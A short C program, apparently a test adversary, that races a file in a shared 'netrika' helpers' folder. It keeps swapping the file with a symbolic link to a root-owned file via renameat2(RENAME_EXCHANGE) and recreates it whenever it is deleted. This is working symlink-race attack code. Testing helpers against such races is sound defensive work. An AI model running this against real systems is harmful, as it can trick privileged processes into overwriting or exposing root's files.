/* What a member of the group netrika can do to a file in the helpers' shared
 * folder: swap it, as fast as it can, between a regular file and a symbolic
 * link to a file of root's, with renameat2(RENAME_EXCHANGE), and make it again
 * whenever it is removed. Runs until it is killed.
 *
 *   swap_race /run/netrika/probes /path/of/a/file/of/roots
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <unistd.h>

static void make(const char* path) {
    const int fd = open(path, O_WRONLY | O_CREAT | O_EXCL | O_NOFOLLOW | O_CLOEXEC, 0660);
    if (fd >= 0)
        close(fd);
}

int main(int argc, char** argv) {
    if (argc != 3) {
        fprintf(stderr, "usage: swap_race PATH TARGET\n");
        return 2;
    }
    char link[4096];
    snprintf(link, sizeof link, "%s.swap", argv[1]);
    unlink(link);
    if (symlink(argv[2], link) != 0) {
        perror("symlink");
        return 1;
    }
    make(argv[1]);
    for (;;) {
        if (renameat2(AT_FDCWD, argv[1], AT_FDCWD, link, RENAME_EXCHANGE) != 0)
            make(argv[1]); /* removed: made again, so that the race goes on */
    }
}
